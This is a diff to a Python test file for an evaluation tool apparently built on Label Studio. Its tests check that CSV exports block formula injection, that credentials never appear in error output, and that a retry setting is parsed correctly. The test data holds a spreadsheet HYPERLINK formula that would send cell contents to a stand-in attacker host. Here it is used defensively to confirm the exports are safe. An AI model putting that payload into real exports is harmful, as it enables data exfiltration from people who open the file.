@@ -22,7 +22,7 @@ from evalstudio.labelstudio.connection import Settings
 from evalstudio.tasks.importing import import_files
 from evalstudio.values.results import region
 
-from .conftest import ROOT, example_files
+from .conftest import ROOT, example_files, only_on_the_last_database
 
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
 EVIL = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
@@ -53,6 +53,7 @@ def test_no_csv_cell_starts_a_formula(texts):
 
 @pytest.mark.server
 def test_export_and_report_csv_are_safe_and_raw_formats_keep_the_text(reg, importer_for, client, label_studio, tmp_path):
+    only_on_the_last_database(label_studio)  # what is written is evalstudio's; the database only stores the text
     from .test_cli import run
 
     project = reg.entry("cmv_tom").model_copy(update={"title": "cmv formula injection"})
@@ -170,10 +171,23 @@ def test_credentials_in_a_url_are_never_echoed(url, tmp_path):
     url = url.replace("\\x7f", "\x7f").replace("\\n", "\n").replace("\\t", "\t")
     for command in (["setup", "dialogue"], ["generate", "circa", rows, "-o", tmp_path / "out.csv", "--ml-url", url]):
         done = run(*map(str, command), env={"LABEL_STUDIO_URL": url, "LABEL_STUDIO_API_KEY": "abc123",
-                                            "EVALSTUDIO_ML_BASIC_AUTH": "user:pass"})
+                                            "EVALSTUDIO_ML_BASIC_AUTH": "user:pass",
+                                            "EVALSTUDIO_RETRY_ATTEMPTS": "2"})  # one retry: its message too
         assert done.returncode in (1, 2), done.stderr
         assert "hunter2-secret" not in done.stderr + done.stdout and "Traceback" not in done.stderr, done.stderr
         assert "W0RD" not in done.stderr  # the whole user:password is hidden, also when it holds an @
+
+
+@pytest.mark.parametrize("attempts, said", [("1", "(gave up after 1 attempt)"), ("3", "(gave up after 3 attempts)"),
+                                            ("0", "EVALSTUDIO_RETRY_ATTEMPTS: expected a whole number of tries"),
+                                            ("２", "EVALSTUDIO_RETRY_ATTEMPTS: expected a whole number of tries")])
+def test_the_number_of_tries_is_the_one_asked_for(attempts, said):
+    from .test_cli import run
+
+    done = run("setup", "dialogue", env={"LABEL_STUDIO_URL": "http://127.0.0.1:9", "LABEL_STUDIO_API_KEY": "abc123",
+                                         "EVALSTUDIO_RETRY_ATTEMPTS": attempts})
+    assert done.returncode in (1, 2) and said in " ".join(done.stderr.split()), done.stderr
+    assert "Traceback" not in done.stderr
 
 
 def test_a_database_password_on_the_command_line_is_refused(tmp_path):
